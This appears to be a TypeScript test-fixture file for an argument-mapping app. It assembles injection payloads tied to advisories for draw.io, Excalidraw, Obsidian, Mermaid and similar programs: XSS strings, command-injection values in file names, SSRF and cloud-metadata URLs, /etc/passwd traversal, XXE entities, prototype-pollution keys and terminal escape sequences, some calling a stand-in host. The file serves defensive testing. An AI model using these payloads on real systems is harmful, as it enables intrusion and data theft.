import { type ArgumentMap, emptyMap } from '../model/argument-map';
import type { Claim } from '../model/claim';
import type { Inference } from '../model/inference';

/** A script that leaves a mark on the window when it runs. */
export const SCRIPT_PAYLOAD = 'globalThis.taken=1';

/** A host that nobody has. A request to it was caused by a text. */
const FOREIGN_HOST = 'taken.invalid';

/** A known vulnerability of another program, with texts that would exploit the same one here. */
export interface Advisory {
  readonly name: string;
  /** The product, and the way of the attack. */
  readonly product: string;
  readonly texts: readonly string[];
}

const IMG_PAYLOAD = `<img src=x onerror=${SCRIPT_PAYLOAD}>`;
const IMG_REQUEST = `<img src="http://${FOREIGN_HOST}/image.png">`;

/** Advisories of diagram, note and mind-map programs whose texts can occur in Counterpoint too. */
export const ADVISORIES: readonly Advisory[] = [
  {
    name: 'CVE-2022-1575, CVE-2022-2014, CVE-2023-3973',
    product: 'draw.io: HTML in a label past the sanitiser',
    texts: [
      `<script>${SCRIPT_PAYLOAD}</script>`,
      IMG_PAYLOAD,
      `<svg onload=${SCRIPT_PAYLOAD}>`,
      `<svg><animate onbegin=${SCRIPT_PAYLOAD} attributeName=x dur=1s>`,
      `<details open ontoggle=${SCRIPT_PAYLOAD}>x`,
      `<input autofocus onfocus=${SCRIPT_PAYLOAD}>`,
      `<video><source onerror=${SCRIPT_PAYLOAD}></video>`,
      `<form><math><mtext></form><form><mglyph><style></math>${IMG_PAYLOAD}`,
    ],
  },
  {
    name: 'CVE-2023-3974, CVE-2023-3975',
    product: 'draw.io: a command in a file name',
    texts: ['$(touch taken)', '`touch taken`', "'; touch taken; '", '| touch taken', '& touch taken &', '%PATH%\n!x!'],
  },
  {
    name: 'CVE-2019-13127',
    product: 'mxGraph: a value that ends its attribute',
    texts: [
      `" onmouseover="${SCRIPT_PAYLOAD}`,
      `' onmouseover='${SCRIPT_PAYLOAD}`,
      `"><script>${SCRIPT_PAYLOAD}</script>`,
      `"/><image href="http://${FOREIGN_HOST}/x" onerror="${SCRIPT_PAYLOAD}"/>`,
      `red;background:url(http://${FOREIGN_HOST}/css)`,
    ],
  },
  {
    name: 'CVE-2022-1713, CVE-2022-1815, CVE-2026-63416',
    product: 'draw.io: the helper server fetches an address, or a file above',
    texts: [
      `http://${FOREIGN_HOST}/fetched`,
      'http://169.254.169.254/latest/',
      '../../../../etc/passwd',
      '..\\..\\boot.ini',
    ],
  },
  {
    name: 'CVE-2023-26140',
    product: 'Excalidraw: a link that is a script',
    texts: [
      `javascript:${SCRIPT_PAYLOAD}`,
      `JaVaScRiPt:${SCRIPT_PAYLOAD}`,
      `java\tscript:${SCRIPT_PAYLOAD}`,
      `\u0001javascript:${SCRIPT_PAYLOAD}`,
      `vbscript:${SCRIPT_PAYLOAD}`,
    ],
  },
  {
    name: 'GHSA-m64q-4jqh-f72f',
    product: 'Excalidraw: a frame with a page of its own',
    texts: [
      `<iframe srcdoc="<script>parent.${SCRIPT_PAYLOAD.replace('globalThis.', '')}</script>"></iframe>`,
      `<iframe src="javascript:parent.${SCRIPT_PAYLOAD.replace('globalThis.', '')}"></iframe>`,
    ],
  },
  {
    name: 'CVE-2026-97224',
    product: 'Excalidraw: HTML under a key that nobody knows',
    texts: [
      `{"html":"${IMG_PAYLOAD}"}`,
      `{"__html":"${IMG_PAYLOAD}"}`,
      `{"dangerouslySetInnerHTML":{"__html":"${IMG_PAYLOAD}"}}`,
    ],
  },
  {
    name: 'CVE-2021-38148, CVE-2022-36450, GHSA-5gpx-9976-ggpm, CVE-2020-25019, CVE-2023-42222',
    product: 'Obsidian, Wire, Jitsi, WebCatalog: addresses that start programs',
    texts: [
      'file:///etc/passwd',
      'smb://taken.invalid/share',
      '\\\\taken.invalid\\share',
      'ms-msdt:/id',
      'vscode://x',
      'obsidian://x',
    ],
  },
  {
    name: 'CVE-2023-2110',
    product: 'Obsidian: a file of the disk under the app’s own scheme',
    texts: [
      'app://counterpoint/../../../etc/passwd',
      '<img src="app://local/etc/passwd">',
      '<link rel=stylesheet href=app://local/x>',
    ],
  },
  {
    name: 'CVE-2026-104077',
    product: 'Obsidian: an attribute of a slide that becomes a frame',
    texts: [
      `<!-- .slide: data-background-iframe="javascript:${SCRIPT_PAYLOAD}" -->`,
      `<section data-background-iframe="javascript:${SCRIPT_PAYLOAD}">`,
    ],
  },
  {
    name: 'CVE-2023-2317',
    product: 'Typora: a page of the app in an embed, with parameters',
    texts: [
      `<embed src="/index.html?x=${IMG_PAYLOAD}">`,
      `<object data="/index.html#code=x"></object>`,
      `<base href="http://${FOREIGN_HOST}/">`,
    ],
  },
  {
    name: 'CVE-2022-24123, CVE-2022-25069, CVE-2023-2318, CVE-2021-37700',
    product: 'MarkText, paste-markdown: what is pasted from a web page',
    texts: [
      `<table><tr><td>x<style><img src="</style>${IMG_PAYLOAD}"></td></tr></table>`,
      `<meta http-equiv="refresh" content="0;url=http://${FOREIGN_HOST}/">`,
      `[x](javascript:${SCRIPT_PAYLOAD})`,
      `![x](http://${FOREIGN_HOST}/md.png)`,
      `<noscript><p title="</noscript>${IMG_PAYLOAD}">`,
    ],
  },
  {
    name: 'CVE-2018-1000534, CVE-2020-28249, CVE-2021-33295, CVE-2023-45673, GHSA-mjr5-v9c9-mm7g',
    product: 'Joplin: tags of a note, links of a PDF',
    texts: [
      `<link rel=import href="http://${FOREIGN_HOST}/">`,
      `<embed src="data:text/html,<script>${SCRIPT_PAYLOAD}</script>">`,
      `(x) /URI (javascript:${SCRIPT_PAYLOAD}) /S /JavaScript /JS (app.alert(1)) >> endobj`,
      `<map><area href="javascript:${SCRIPT_PAYLOAD}" onfocus=${SCRIPT_PAYLOAD} tabindex=1 autofocus></map>`,
    ],
  },
  {
    name: 'CVE-2021-47844',
    product: 'Xmind: a mind map that acts when the pointer is over it',
    texts: [
      `<b onmouseover=${SCRIPT_PAYLOAD}>here</b>`,
      `<a href=# onpointerenter=${SCRIPT_PAYLOAD} style="position:fixed;inset:0">here</a>`,
    ],
  },
  {
    name: 'CVE-2025-54881, CVE-2025-54880, CVE-2021-35513, CVE-2026-26226',
    product: 'Mermaid: a label that acts while it is measured, or breaks out of its attribute in SVG',
    texts: [
      `$$x<img src="x" onerror="${SCRIPT_PAYLOAD}">$$`,
      `</text></g><script>${SCRIPT_PAYLOAD}</script>`,
      `</title></desc><foreignObject><iframe srcdoc="${IMG_PAYLOAD}"/></foreignObject>`,
      `</style><script>${SCRIPT_PAYLOAD}</script>`,
      `</metadata><script xlink:href="http://${FOREIGN_HOST}/s.js"/>`,
      `]]><script>${SCRIPT_PAYLOAD}</script>`,
    ],
  },
  {
    name: 'CVE-2022-1231, CVE-2026-0858',
    product: 'PlantUML: a picture that keeps a script',
    texts: [
      `<a xlink:href="javascript:${SCRIPT_PAYLOAD}"><text>x</text></a>`,
      `<set attributeName="href" to="javascript:${SCRIPT_PAYLOAD}"/>`,
      `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
      `<?xml-stylesheet href="http://${FOREIGN_HOST}/x.xsl"?>`,
    ],
  },
  {
    name: 'CVE-2026-7182',
    product: 'DHTMLX: an export that fetches files',
    texts: [
      IMG_REQUEST,
      '<img src="file:///etc/passwd">',
      '<iframe src="file:///etc/passwd"></iframe>',
      `url(file:///etc/passwd)`,
    ],
  },
  {
    name: 'GHSA-8fw4-xh83-3j6q',
    product: 'diagram-js: a label among what a search finds',
    texts: [
      `needle ${IMG_PAYLOAD}`,
      `</mark>${IMG_PAYLOAD}<mark>`,
      `<b>needle</b><style>@import "http://${FOREIGN_HOST}/x.css"</style>`,
    ],
  },
  {
    name: 'CVE-2023-29198, CVE-2026-70601, CVE-2026-34780',
    product: 'Electron: values that change what every object is',
    texts: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then'],
  },
];

/** Texts that control a terminal, or make it show something false. */
export const TERMINAL_TEXTS: readonly string[] = [
  '\u001b[2J\u001b[H wiped',
  '\u001b]0;another title\u0007',
  `\u001b]8;;http://${FOREIGN_HOST}/\u0007a link\u001b]8;;\u0007`,
  '\u001b]52;c;dGFrZW4=\u0007',
  '\u001bP+q544e\u001b\\',
  '\u009b2J\u009d0;C1\u009c',
  'all is well\rall is bad',
  'back\b\b\b\bspaced',
  'bell\u0007, form\f, tab\v, delete\u007f',
  'photo\u202egnp.exe',
  '\u2066isolated\u2067 \u2068marks\u2069 \u202aembedded\u202b \u202doverridden\u202c',
  'a line\u2028of another\u2029kind',
];

/** Texts on which a careless pattern or writer runs forever or fails. */
export const ODD_TEXTS: readonly string[] = [
  ' '.repeat(60_000),
  `${' '.repeat(60_000)}x`,
  '\n'.repeat(5_000),
  'a'.repeat(60_000),
  '<'.repeat(20_000),
  `${'1.'.repeat(20_000)}x`,
  `${"a'".repeat(20_000)}!`,
  '#'.repeat(20_000),
  'e\u0301'.repeat(3_000),
  `z${'\u0338'.repeat(20_000)}`,
  '\ud800 a lone half \udfff',
  '\u0001\u0002\u0008\u000b\u001f\ufffe\uffff',
  '\u{1f468}\u200d'.repeat(2_000),
  '\u05d0\u202e\u0041\u200f'.repeat(500),
  '&lol;&#x0;&#xD800;&amp;lt;',
];

/** Every hostile text that a map can hold. */
export const HOSTILE_TEXTS: readonly string[] = [...ADVISORIES.flatMap(({ texts }) => texts), ...TERMINAL_TEXTS];

/** Ids that are properties of every object, and ids that close an attribute. */
const HOSTILE_IDS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  `"><svg onload=${SCRIPT_PAYLOAD}>`,
  `'-${SCRIPT_PAYLOAD}-'`,
];

/**
 * Returns a map with a hostile text in every place: claims, holders, notes, a source and its
 * address, an anchor, ids and unknown keys.
 */
export function hostileMap(texts: readonly string[] = HOSTILE_TEXTS, title = texts[0] ?? ''): ArgumentMap {
  const idAt = (index: number) => HOSTILE_IDS[index] ?? `c${index}`;
  const claims = texts.map((text, index): Claim => {
    const holder = texts[(index + 1) % texts.length] ?? '';
    const anchors = [
      { source: texts[0]?.slice(0, 200) ?? 's', paragraph: index + 1, exact: text, prefix: text, suffix: text },
    ];
    return { id: idAt(index), text, holder, note: text, anchors, ...unknownKeys(text) };
  });
  const inferences = claims.slice(1).map(({ id, text }, index): Inference => {
    const target = idAt(Math.floor(index / 6));
    return { id: `i${index}`, kind: index % 2 === 0 ? 'reason' : 'objection', premises: [id], target, note: text };
  });
  const sources = texts.map((text, index) => {
    const id = index === 0 ? text.slice(0, 200) : `s${index}`;
    return { id, title: text, author: text, publisher: text, date: text, url: text };
  });
  const said = { description: title, student: title, class: title, ...unknownKeys(title) };
  return { ...emptyMap(title), ...said, sources, claims, inferences };
}

/** Returns an object with unsafe keys, made by JSON.parse, so that `__proto__` is an own property. */
function unknownKeys(text: string): object {
  const json = JSON.stringify(text);
  return JSON.parse(
    `{"__proto__":{"taken":1},"constructor":{"prototype":{"taken":1}},"html":${json},"style":${json},"onclick":${json}}`,
  ) as object;
}
